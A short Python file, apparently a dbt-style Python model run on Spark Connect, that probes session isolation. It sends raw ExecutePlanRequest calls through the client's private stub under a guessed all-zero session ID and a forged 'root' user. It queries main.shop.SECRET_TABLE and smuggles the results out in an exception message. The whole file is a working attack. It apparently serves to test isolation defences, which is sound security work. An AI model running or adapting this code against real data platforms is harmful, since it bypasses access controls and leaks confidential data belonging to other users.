# seeks: table
# The session of somebody else, by guessing its number; releasing all sessions of the user.
from pyspark.sql.connect import proto


def model(tg):
    client, said = tg.ref("silver.orders").sparkSession.client, []
    for session in ("00000000-0000-0000-0000-000000000000", client._session_id):
        request = proto.ExecutePlanRequest(session_id=session)
        request.user_context.user_id = "root"
        request.plan.root.sql.query = "SELECT * FROM main.shop.SECRET_TABLE"
        try:
            said += [str(reply) for reply in client._stub.ExecutePlan(request)]
        except Exception as error:
            said.append(str(error)[:300])
    raise ValueError("\n".join(said))
